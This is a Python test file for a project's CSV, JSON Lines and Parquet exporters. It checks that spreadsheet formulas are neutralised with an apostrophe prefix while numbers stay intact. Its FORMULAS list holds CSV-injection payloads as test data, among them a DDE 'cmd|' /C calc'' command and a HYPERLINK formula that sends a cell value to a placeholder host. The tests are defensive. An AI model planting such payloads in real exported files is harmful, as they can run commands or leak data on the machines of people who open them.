"""What a CSV file's cells hold: safe to open in a spreadsheet, and else as it came."""

import csv
import re
import unicodedata
from io import BytesIO, StringIO

import msgspec
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadline.records.cells import make_cell, make_text
from leadline.records.exporters import CsvExporter, JsonLinesExporter, ParquetExporter

NUMBERS = (
    *("-12.5", "+4930123456", "+49 30 123456", "1e5", "-1.5E-3", "12 %", "-3,5%", "-1.234.567,89"),
    *("+1", "-0", "-.5", "1'000", "-1 000 000", "-12.5; -3"),
)
FORMULAS = (
    *("=1+1", "+1+1", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u200b=1"),
    *("\ufeff=1", "\x00=1", "\u202e=1", "\uff1d1+1", "\uff0b1+1", "\uff0dA1", "\uff20SUM(1)"),
    *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+A1", "-", "=", "@", "+49-30-123456"),
    *('=HYPERLINK("http://x.test/?"&A1)', " \n\t+A1", "-1 000+A1", "--1", "\u207c1"),
)


def is_evaluated(cell: str) -> bool:
    """What spreadsheets run when they open a file, taken widely: blanks, controls and characters
    without width are dropped, look-alikes read as the plain character, and what then begins with
    one of four characters is a formula unless it is a number as such."""
    rest = "".join(unicodedata.normalize("NFKC", character) for character in cell)
    while rest and (rest[0].isspace() or unicodedata.category(rest[0]) in ("Cc", "Cf", "Cs")):
        rest = rest[1:]
    if not rest or rest[0] not in "=+-@":
        return False
    # A sign, digits, and what groups or ends them; a second sign makes it a sum, letters a name.
    is_number = re.fullmatch(r"[+-][\d.,' \u2019]*(?:[eE][+-]?\d+)? ?%?(?:; .*)?", rest)
    return not (is_number and any(character.isdigit() for character in rest))


class Line(msgspec.Struct):
    text: str


def read_back(text: str) -> tuple[str, str]:
    """The header and the cell of a file that has one."""
    out = BytesIO()
    CsvExporter().write([{text: text}], Line, out)
    header, row = csv.reader(StringIO(out.getvalue().decode(), newline=""))
    return "".join(header), "".join(row)


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_stay_numbers(text: str) -> None:
    assert make_text(text) == text
    assert not is_evaluated(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_marked_as_text(text: str) -> None:
    assert is_evaluated(text)
    header, cell = read_back(text)
    assert cell.startswith("'")
    assert header == cell


@given(
    st.text(st.characters() | st.sampled_from("=+-@\t\r\n ;'\u202e\u200b\uff1d\x0019e%.,"))
    | st.from_regex(r"\s*[=+@-][0-9A-Z+(|%., -]*", fullmatch=True)
)
def test_no_cell_is_run_and_what_is_read_back_is_the_value(text: str) -> None:
    header, cell = read_back(text)
    assert header == cell
    assert not is_evaluated(cell)
    lines = text.replace("\r\n", "\n")
    restored = re.sub(r"<U\+([0-9A-F]{4,6})>", lambda found: chr(int(found[1], 16)), cell)
    assert restored in (lines, f"'{lines}")


@given(
    st.floats(allow_nan=False, allow_infinity=False)
    | st.integers()
    | st.decimals(allow_nan=False, allow_infinity=False).map(str)
)
def test_no_number_is_changed(value: float | str) -> None:
    assert make_cell(value) == value
    assert make_cell(str(value)) == str(value)


def test_what_cannot_be_seen_is_written_out() -> None:
    assert make_text("a\x00b\u202ec\ud800d\x9b") == "a<U+0000>b<U+202E>c<U+D800>d<U+009B>"
    assert make_text("two\r\nlines\tand a tab") == "two\nlines\tand a tab"
    # Persian and Hebrew need marks that have no width.
    assert (
        make_text("\u0645\u06cc\u200c\u062e \u05d0\u200f")
        == "\u0645\u06cc\u200c\u062e \u05d0\u200f"
    )


def test_no_value_is_written_as_python_writes_it() -> None:
    rows = (
        {"a": [{"x": None}]},
        {"a": [[1, "b"], True]},
        {"a": {"k": True, "n": None}},
        {"a": False},
    )
    cells = [make_cell(row["a"]) for row in rows]
    assert cells == ['{"x": null}', '[1, "b"]; true', '{"k": true, "n": null}', "false"]
    assert make_cell(None) is None
    assert make_cell(["=1", "-2"]) == "'=1; -2"


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_json_lines_and_parquet_keep_every_text_as_it_came(text: str) -> None:
    lines, table = BytesIO(), BytesIO()
    JsonLinesExporter().write([Line(text)], Line, lines)
    ParquetExporter().write([Line(text)], Line, table)
    assert msgspec.json.decode(lines.getvalue(), type=Line).text == text
    assert pyarrow.parquet.read_table(BytesIO(table.getvalue())).to_pylist() == [{"text": text}]
